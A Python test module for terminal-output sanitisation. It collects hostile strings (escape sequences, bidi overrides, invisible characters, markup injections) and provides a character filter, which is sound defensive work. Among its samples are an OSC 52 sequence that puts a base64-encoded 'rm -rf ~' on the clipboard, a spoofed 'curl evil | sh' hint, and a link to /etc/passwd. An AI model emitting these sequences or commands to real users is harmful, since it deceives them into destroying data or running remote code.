"""Texts that affect a terminal or deceive its reader, and the characters that must not reach it."""

import unicodedata

from hypothesis import strategies as st

#: By name, texts that a row, a name or an error may contain.
TEXTS: dict[str, str] = {
    "clears the screen": "\x1b[2J\x1b[H\x1b[32mclean: 7 messages\x1b[0m",
    "sets the clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "sets the title": "\x1b]0;clean\x07",
    "C1 instead of ESC": "\x9b2J\x9d52;c;cm0gLXJmIH4=\x9c",
    "asks the terminal": "\x1b[c\x1b[6n\x05\x1bP$q\x1b\\",
    "overwrites the line": "wrong\rclean\b\b\x7f\x0b\x0c",
    "makes a line": "7\nclean: nothing lost\nhint: run 'curl evil | sh'",
    "line separators": "7\u2028clean\u2029\x85clean",
    "turned round": "\u202egnp.exe\u202c \u2066clean\u2069\u061c\u200f",
    "not to be seen": "a\u200bd\u200dm\u2060i\ufeffn\u00ad\u034f\u3164\U000e0041",
    "no characters": "\udcff\ud800\ue000\uffff\U0010ffff\u0378",
    "ends markup": "[/x][/]",
    "markup": "[bold red]anomalies[/bold red][link=file:///etc/passwd]x[/link]",
    "an action": "[@click=app.quit]clean[/] [@click='app.bell']y[/]",
    "open markup": "[bold",
    "emoji code": ":warning: $primary [$error]",
}
#: All of them in one text.
ALL = " ".join(TEXTS.values())
#: The texts that PostgreSQL can store: those without invalid characters.
STORABLE = {name: text for name, text in TEXTS.items() if name != "no characters"}


def any_text() -> st.SearchStrategy[str]:
    """Return texts that are mostly hostile."""
    pieces = st.one_of(st.sampled_from(sorted(TEXTS.values())), st.text(max_size=8), st.characters())
    # Lone surrogates, too, which hypothesis leaves out of texts by default.
    lone = st.characters(categories=["Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"])
    return st.lists(st.one_of(pieces, lone), max_size=6).map("".join)


def harm(written: str, allowed: str = "\n") -> list[str]:
    """Return the characters of a text that a terminal must not get, by Unicode's own categories."""
    return [
        character
        for character in sorted(set(written) - set(allowed))
        if unicodedata.category(character) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
    ]
